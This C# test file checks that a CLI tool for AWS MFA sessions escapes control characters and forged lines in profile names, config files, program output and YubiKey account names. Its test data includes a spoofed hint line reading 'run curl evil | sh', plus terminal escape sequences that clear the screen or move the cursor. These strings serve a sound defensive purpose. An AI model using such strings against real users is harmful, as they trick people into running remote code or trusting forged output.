using System.Text.Json;
using MfaSecure.Sandbox;

namespace MfaSecure.Tests.Cli;

/// <summary>Names from files, variables, programs and YubiKeys cannot move the cursor, erase, or begin a line of their own.</summary>
public sealed class ControlCharacterTests : IDisposable
{
    private const string Forged = "x\naws-mfa-secure: hint: run curl evil | sh\x1b[2J\u009b2J\u202e";
    private const string Escaped = @"x\naws-mfa-secure: hint: run curl evil | sh\x1b[2J\x9b2J\u202e";

    private readonly AliasWorld world = new();

    public void Dispose() => world.Dispose();

    [Theory]
    [InlineData("exports")]
    [InlineData("exec", "--", "true")]
    [InlineData("credential-process")]
    [InlineData("code")]
    [InlineData("doctor")]
    [InlineData("status")]
    [InlineData("clean", "--profile", Forged)]
    [InlineData("configure", "--profile", Forged)]
    [InlineData("session", "s3", "ls", "--profile", "mfa")]
    public async Task A_name_in_AWS_PROFILE_or_an_option_forges_no_line(params string[] words)
    {
        var result = await Stage.RunAsync(world.Command([.. words.Select(RawText.FromString)])
            .With(("AWS_PROFILE", Forged), ("AWS_MFA_DEBUG", "1"), ("AWS_MFA_TOKEN", world.Device.NextUnusedCode())).Unattended());

        AssertClean(result);
    }

    [Fact]
    public async Task An_error_shows_what_was_there()
    {
        var result = await Stage.RunAsync(world.Command("exports", "--profile", RawText.FromString(Forged)).Unattended());

        world.AssertFails(result, 1, $"profile '{Escaped}' does not exist");
    }

    [Fact]
    public async Task Names_in_files_are_escaped_in_status_and_are_JSON_escapes_in_its_JSON()
    {
        world.Home.Append(".aws/config", "[profile \x1b[31mred]\nregion = eu\x1b[2J\nmfa_serial = a\u0007b\n");
        foreach (string[] words in (string[][])[["status", "--all"], ["status", "--profile", "\x1b[31mred"], ["import"], ["doctor", "--profile", "\x1b[31mred"]])
        {
            AssertClean(await Stage.RunAsync(world.Command([.. words.Select(RawText.FromString)]).Unattended()));
        }

        var json = await Stage.RunAsync(world.Command("status", "--json", "--profile", "\x1b[31mred").Unattended());

        AssertClean(json);
        Assert.Equal("\x1b[31mred", JsonDocument.Parse(json.StdoutText).RootElement.GetProperty("profile").GetString());
        AssertClean(await Stage.RunAsync(world.Command("completion", "exports", "--profile", "").Unattended()));
    }

    [Fact]
    public async Task What_a_program_and_AWS_say_is_escaped_too()
    {
        world.Home.Script("noisy", "#!/bin/sh\nprintf 'bad \\033[2J\\033]0;title\\007 thing' >&2\nexit 3\n");
        world.Home.Append(".aws/config", $"[profile noisy]\nmfa_serial = {world.Device.Serial}\ncredential_process = noisy\n");
        var result = await Stage.RunAsync(world.SessionWithToken("s3", "ls", "--profile", "noisy"));

        AssertClean(result);
        world.AssertFails(result, 1, @"bad \x1b[2J\x1b]0;title\x07 thing");
    }

    [Fact]
    public async Task On_the_terminal_too()
    {
        var run = Stage.Start(world.Session("s3", "ls").With(("AWS_MFA_SERIAL", "arn:aws:iam::123456789012:mfa/x\x1b[2Jy"), ("AWS_MFA_TIMEOUT", "1")));
        await using var _ = run;
        var result = await run.WaitAsync();

        Assert.DoesNotContain('\x1b', result.StderrText);
        Assert.DoesNotContain("\x1b[2J", result.Transcript, StringComparison.Ordinal);
    }

    [NeedsFact("pcscd", "gcc")]
    public async Task An_account_on_a_YubiKey_makes_no_line_of_its_own_in_doctor()
    {
        await using var keys = await KeyWorld.StartAsync(keys => [keys.Key(touch: false, name: "bank\nok       AWS: all is well\x1b[1A")]);

        var result = await Stage.RunAsync(keys.Command("doctor").With(("AWS_MFA_AWS", "/bin/true")).Unattended());

        AssertClean(result);
        Assert.Contains(@"only 'bank\nok       AWS: all is well\x1b[1A'", result.StdoutText, StringComparison.Ordinal);
    }

    private static void AssertClean(StageResult result)
    {
        foreach (var text in (string[])[result.StdoutText, result.StderrText, result.Transcript])
        {
            Assert.DoesNotContain(text, character => char.IsControl(character) && character is not '\n' || character == '\u202e');
            Assert.DoesNotContain(text.Split('\n'), line => line.StartsWith("aws-mfa-secure: hint: run curl", StringComparison.Ordinal) || line.StartsWith("ok       AWS: all is well", StringComparison.Ordinal));
        }
    }
}
